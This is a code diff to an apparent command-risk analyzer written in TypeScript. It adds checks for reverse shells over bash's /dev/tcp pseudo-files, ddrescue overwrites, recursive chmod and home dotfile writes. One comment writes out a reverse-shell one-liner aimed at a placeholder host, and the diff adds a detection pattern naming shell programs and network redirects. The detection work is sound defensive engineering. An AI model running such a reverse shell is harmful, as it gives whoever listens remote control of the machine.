@@ -11,7 +11,10 @@ import { classifyPath } from '../path-class.js';
 import { producers } from '../producers.js';
 import type { Context } from '../context.js';
 
-const HARMLESS_DEVICES = /^\/dev\/(null|zero|stdout|stderr|stdin|tty|fd\/\d+|random|urandom|full)$/;
+const HARMLESS_DEVICES = /^\/dev\/(null|zero|stdout|stderr|stdin|tty|fd\/\d+|random|urandom|full)$|^\/proc\/sys\/vm\/drop_caches$/;
+/** bash's network pseudo-files: a connection, not a device (secrets.ts judges what is sent there). */
+const NETWORK_FILES = /^\/dev\/(tcp|udp)\//;
+const SHELL_PROGRAMS = new Set(['bash', 'sh', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'python', 'python3', 'perl', 'ruby', 'php', 'node']);
 
 function target(word: Word, ctx: Context, prefix: string): Fact {
   const cls = word.dynamic && word.value === DYN ? 'dynamic' : classifyPath(word.value, ctx);
@@ -76,6 +79,10 @@ export const fsAnalyzer: Analyzer = ({ view, ctx }) => {
       if (!listing && !keeps && targets.length) facts.push({ id: 'system.crontab-replace', detail: targets[0].value, span: targets[0].span });
       break;
     }
+    case 'ddrescue':
+      // ddrescue INFILE OUTFILE [MAPFILE]: the output is written over
+      if (targets[1]) facts.push(target(targets[1], ctx, 'fs.write'));
+      break;
     case 'fallocate':
       // Collapsing, punching or zeroing a range cuts data out of the file; plain fallocate only reserves space.
       if (hasFlag(view, ['-c', '--collapse-range', '-p', '--punch-hole', '-z', '--zero-range'])) for (const t of targets) facts.push(target(t, ctx, 'fs.truncate'));
@@ -106,7 +113,12 @@ export const fsAnalyzer: Analyzer = ({ view, ctx }) => {
       const paths = byReference || p === 'setfacl' ? targets : targets.slice(1);
       // A plain chmod that grants nothing dangerous (`chmod 600 ~/.ssh/id_ed25519`, `chmod +x tool`) changes nothing that matters.
       if (!recursive && p === 'chmod' && !byReference && !riskyMode(targets[0]?.value ?? '')) break;
-      for (const t of paths) facts.push(target(t, ctx, recursive ? 'fs.chmod-recursive' : 'fs.chmod'));
+      for (const t of paths) {
+        const fact = target(t, ctx, recursive ? 'fs.chmod-recursive' : 'fs.chmod');
+        // A tree of the user's own (`chmod -R 755 ~/projects/app`, `chown -R me ~/src`) unless the mode opens it up.
+        if (fact.id === 'fs.chmod-recursive.home-sub' && !(p === 'chmod' && riskyMode(targets[0]?.value ?? '')) && !/(^|\/)\.[^/]+\/?$/.test(t.value)) continue;
+        facts.push(fact);
+      }
       break;
     }
     case 'chattr':
@@ -138,9 +150,18 @@ export const fsAnalyzer: Analyzer = ({ view, ctx }) => {
       }
       break;
   }
+  // `bash -i >& /dev/tcp/h/4444 0>&1`: a shell whose input or output is a connection serves whoever is at the other end.
+  if (SHELL_PROGRAMS.has(p ?? '') && view.cmd.redirects.some((r) => NETWORK_FILES.test(r.target.value))) {
+    facts.push({ id: 'system.shell-over-network', detail: view.cmd.redirects.find((r) => NETWORK_FILES.test(r.target.value))!.target.value, span: view.cmd.span });
+  }
   for (const r of view.cmd.redirects) {
-    if (!/^(>|>>|>\||&>|&>>|>&)$/.test(r.op) || HARMLESS_DEVICES.test(r.target.value) || /^\d+$/.test(r.target.value)) continue;
-    facts.push(target(r.target, ctx, r.op.includes('>>') ? 'fs.append' : 'fs.write'));
+    if (!/^(>|>>|>\||&>|&>>|>&)$/.test(r.op) || HARMLESS_DEVICES.test(r.target.value) || NETWORK_FILES.test(r.target.value) || /^\d+$/.test(r.target.value)) continue;
+    // Adding a host key is what ssh-keyscan and the first connection do.
+    if (r.op.includes('>>') && /(^|\/)\.ssh\/known_hosts$/.test(r.target.value)) continue;
+    const fact = target(r.target, ctx, r.op.includes('>>') ? 'fs.append' : 'fs.write');
+    // In the home directory only its dotfiles are config (`> ~/.bashrc`); `> ~/notes.txt` is a file like any other.
+    if (fact.id === 'fs.write.home-sub' && !homeDotfile(r.target.value, ctx)) continue;
+    facts.push(fact);
   }
   return facts;
 };
@@ -159,10 +180,15 @@ const HOME_DISPOSABLE = /^\.(cache|npm|yarn|pnpm-store|Trash|local|gradle|m2|car
 /** `mv ~/.zshrc /tmp/x`: a dotfile of the home directory moved away is config the shell and tools lose. */
 function movedAway(fact: Fact, word: Word, ctx: Context): Fact {
   if (fact.id !== 'fs.move.home-sub' || word.dynamic) return fact;
+  return homeDotfile(word.value, ctx) ? { ...fact, id: 'fs.move-home-config' } : fact;
+}
+
+/** A dotfile or dot-directory directly in a home directory (`~/.zshrc`, `/Users/a/.gitconfig`), caches and trash aside. */
+function homeDotfile(path: string, ctx: Context): boolean {
   const home = ctx.env.HOME?.replace(/\/+$/, '');
-  const v = word.value.replace(/\/+$/, '');
+  const v = path.replace(/\/+$/, '');
   const rest = v.startsWith('~/') ? v.slice(2) : home && v.startsWith(home + '/') ? v.slice(home.length + 1) : /^\/(?:home|Users)\/[^/]+\/(.+)$/.exec(v)?.[1];
-  return rest && /^\.[^/]+$/.test(rest) && !HOME_DISPOSABLE.test(rest) ? { ...fact, id: 'fs.move-home-config' } : fact;
+  return !!rest && /^\.[^/]+$/.test(rest) && !HOME_DISPOSABLE.test(rest) && rest !== '.config';
 }
 
 /** Classes of paths inside the project: an absolute-size truncate there makes an image, it does not cut data. */
